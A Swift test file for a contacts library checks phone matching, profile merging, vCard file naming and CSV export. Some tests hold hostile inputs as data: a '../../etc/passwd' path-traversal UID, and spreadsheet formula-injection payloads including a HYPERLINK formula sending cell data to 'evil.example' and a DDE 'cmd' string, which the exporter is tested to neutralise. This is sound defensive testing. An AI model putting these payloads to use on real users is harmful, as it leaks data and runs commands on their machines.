import Testing
@testable import MycaCore

@Suite struct ContactDirectoryTests {
    @Test("phones are one when their digits are, or but for a country code in place of the trunk 0",
          arguments: [("+81 90-1234-5678", "090-1234-5678", true), ("+1 (415) 555-0100", "+14155550100", true),
                      ("+1 415 555 0100", "+1 415 555 0101", false), ("123", "123", false), ("+44 20 7946 0958", "020 7946 0958", true)])
    func samePhone(a: String, b: String, same: Bool) {
        #expect(ContactDirectory.samePhone(a, b) == same)
    }

    @Test("a merge adds what is missing and overwrites nothing, and says what it added")
    func merge() {
        var target = Profile()
        target.formattedName = "Ana Lima"
        target.title = "Designer"
        target.emails = [Email(address: "ana@example.com")]
        var source = Profile()
        source.formattedName = "A. Lima"
        source.title = "Head of Design"
        source.organization = "Example"
        source.emails = [Email(address: "ANA@example.com"), Email(address: "ana@lima.dev")]
        source.phones = [Phone(number: "+1 415 555 0100")]
        let added = ContactDirectory.merge(source, into: &target)
        #expect(target.formattedName == "Ana Lima" && target.title == "Designer" && target.organization == "Example")
        #expect(target.emails.map(\.address) == ["ana@example.com", "ana@lima.dev"])
        #expect(added == ["ORG Example", "EMAIL ana@lima.dev", "TEL +1 415 555 0100"])
        #expect(ContactDirectory.merge(source, into: &target).isEmpty)
    }

    @Test("file names are the UID's safe characters, another when taken")
    func fileNames() {
        #expect(ContactDirectory.fileName(uid: "urn:uuid:AB-12", taken: []) == "AB-12.vcf")
        #expect(ContactDirectory.fileName(uid: "../../etc/passwd", taken: []) == "etcpasswd.vcf")
        #expect(ContactDirectory.fileName(uid: "x", taken: ["x.vcf"]) == "x-2.vcf")
    }
}

@Suite struct ContactCSVTests {
    @Test("a header of Google's columns, then a row per contact: names, organization, labelled emails and phones, quoted where needed")
    func googleColumns() throws {
        var p = Profile()
        p.givenName = "Sean"
        p.familyName = "Owen"
        p.organization = "Example, Inc."
        p.title = "Engineer"
        p.emails = [Email(address: "sean@example.com", types: ["work"])]
        p.phones = [Phone(number: "+1 415 555 0102", types: ["cell"]), Phone(number: "+1 415 555 0103", types: ["fax"])]
        p.note = "said \"hi\""
        let csv = ContactCSV.write([try p.snapshot()])
        let lines = csv.split(separator: "\r\n", omittingEmptySubsequences: false).map(String.init)
        #expect(lines.count == 3 && lines[2].isEmpty)
        let header = lines[0].split(separator: ",").map(String.init)
        #expect(header.prefix(3) == ["First Name", "Middle Name", "Last Name"])
        #expect(header.contains("E-mail 1 - Value") && header.contains("Phone 2 - Label"))
        #expect(lines[1].hasPrefix("Sean,,Owen,,,,,,\"Example, Inc.\",Engineer,\"said \"\"hi\"\"\",Work,sean@example.com,"))
        #expect(lines[1].contains("Mobile,+1 415 555 0102,Work Fax,+1 415 555 0103"))
    }

    @Test("cells a spreadsheet would run as formulas get a ' in front and quotes; phone numbers and plain text stay as written")
    func formulasInert() throws {
        var p = Profile()
        p.givenName = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
        p.familyName = "@SUM(1+1)"
        p.organization = "+cmd|' /C calc'!A0"
        p.title = "+A1*2"
        p.note = "\tlead\nnext"
        p.phones = [Phone(number: "+81 3-1234-5678", types: ["work"]), Phone(number: "+1 (415) 555.0100", types: ["cell"])]
        p.urls = [WebURL(value: "https://example.com/-x", types: ["work"])]
        let csv = ContactCSV.write([try p.snapshot()])
        let row = csv[csv.firstRange(ofText: "\r\n")!.upperBound...]
        #expect(row.hasPrefix(#""'=HYPERLINK(""https://evil.example/?""&A1,""x"")",,"'@SUM(1+1)",,,,,,"'+cmd|' /C calc'!A0","'+A1*2","'\#tlead\#nnext","#))
        #expect(row.contains(",Work,+81 3-1234-5678,Mobile,+1 (415) 555.0100,,,"))
        #expect(row.contains(",Work,https://example.com/-x,"))
    }
}
